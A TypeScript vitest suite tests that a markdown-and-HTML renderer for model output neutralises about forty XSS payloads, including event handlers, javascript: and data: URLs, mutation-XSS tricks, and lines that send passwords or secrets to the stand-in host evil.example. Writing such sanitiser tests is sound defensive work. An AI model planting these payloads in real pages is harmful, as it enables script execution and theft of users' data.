import { describe, expect, it } from "vitest";
import { parse } from "./blocks";
import { sanitise } from "./sanitise";

const hostile = [
  "<script>alert(1)</script>",
  "<ScRiPt src=//evil.example/x.js></sCrIpT>",
  "<img src=x onerror=alert(1)>",
  "<img src='data:image/svg+xml;base64,PHN2Zy8+'>",
  "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  "<math href='javascript:alert(1)'>x</math>",
  "<form action=https://evil.example><input name=password><button>ok</button></form>",
  "<iframe src='javascript:alert(1)'></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=evil.swf></object><embed src=evil.swf>",
  "<style>*{background:url(//evil.example)}</style>",
  "<p style='position:fixed;inset:0'>over everything</p>",
  "<link rel=stylesheet href=//evil.example><base href=//evil.example><meta http-equiv=refresh content=0>",
  "<a id=app name=app href='#x'>clobber</a><form name=document></form>",
  "<a href='javascript:alert(1)'>x</a>",
  "<a href='jAvAsCrIpT&colon;alert(1)'>x</a>",
  "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
  "<a href='vbscript:msgbox(1)'>x</a>",
  "<b onmouseover=alert(1)>x</b>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](data:image/png;base64,AAAA)",
  "![x](javascript:alert(1))",
  "![x](https://evil.example/track.png?secret)",
  "![x](data:image/svg+xml;base64,PHN2Zy8+)",
  '[x](https://ok.example "onmouseover=alert(1)")',
  "```<img/onerror=alert(1)>\ncode\n```",
  "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
  "> <script>alert(1)</script>",
  "- <svg/onload=alert(1)>",
  "<<script>script>alert(1)</script>",
  "`<script>`",
  "$\\href{javascript:alert(1)}{x}$",
];

const forbiddenTags =
  "script,style,iframe,object,embed,form,input,button,svg,math,link,base,meta,template,video,source,noscript";

function dom(html: string): HTMLElement {
  const body = document.createElement("div");
  body.innerHTML = html;
  return body;
}

/** The moments at which a half may mean something else than the whole. */
const halves = (text: string): string[] =>
  [...text.matchAll(/[>'"=)/\]]/g)].map((match) => text.slice(0, match.index + 1));

function expectHarmless(html: string): void {
  const body = dom(html);
  expect(body.querySelector(forbiddenTags), html).toBeNull();
  for (const element of body.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(name, html).not.toMatch(/^on|^(style|id|name|srcdoc|srcset|xlink:href|formaction|action)$/i);
      if (name === "href") expect(value, html).toMatch(/^(https?:|mailto:)/i);
      if (name === "src") expect(value, html).toMatch(/^data:image\/(png|jpeg|gif|webp);base64,/i);
    }
  }
}

const rendered = (text: string): string =>
  parse(text)
    .placed.map(({ block }) => (block.kind === "html" ? block.html : ""))
    .join("");

describe("what a model writes", () => {
  it.each(hostile)("is harmless: %s", (text) => expectHarmless(rendered(text)));

  it.each(hostile)("is harmless at every moment of its arrival: %s", (text) => {
    expectHarmless(halves(text).map(rendered).join(""));
  });

  it.each(hostile)("is harmless even where it reaches the sanitiser raw: %s", (text) => expectHarmless(sanitise(text)));

  it("shows raw HTML as text instead of losing it", () => {
    expect(dom(rendered("<div class=x>hello</div>")).textContent).toContain("<div class=x>hello</div>");
  });

  it("keeps the few bare tags that models use for layout", () => {
    expect(rendered("H<sub>2</sub>O<br>x")).toContain("H<sub>2</sub>O<br>x");
  });

  it("opens links elsewhere, telling that page nothing", () => {
    const link = dom(rendered("[x](https://ok.example)")).querySelector("a")!;
    expect([link.target, link.rel]).toEqual(["_blank", "noopener noreferrer nofollow"]);
  });

  it("makes a picture from elsewhere a link, so that nothing is fetched", () => {
    const body = dom(rendered("![a cat](https://ok.example/cat.png)"));
    expect(body.querySelector("img")).toBeNull();
    expect(body.querySelector("a")!.textContent).toBe("a cat");
  });

  it("keeps classes of its own only", () => {
    expect(sanitise('<span class="hljs-keyword veil">x</span>')).toBe('<span class="hljs-keyword">x</span>');
    expect(sanitise('<span class="veil">x</span>')).toBe("<span>x</span>");
  });

  it("gives every paragraph and cell its own direction", () => {
    expect(rendered("سلام")).toContain('<p dir="rtl">');
    expect(rendered("Serai برنامه‌ای است که مدل‌ها را اجرا می‌کند")).toContain('<p dir="rtl">');
    expect(rendered("The word سلام means peace and is a greeting")).toContain('<p dir="ltr">');
    expect(rendered("| a |\n|---|\n| ب |")).toContain('<td dir="auto">');
    expect(rendered("`a/b`")).toContain('<code dir="ltr">');
    expect(rendered("1. یک\n2. two")).toContain('<ol dir="rtl">');
    expect(rendered("> - quoted\n> - یک")).toContain('<blockquote dir="ltr">');
  });
});
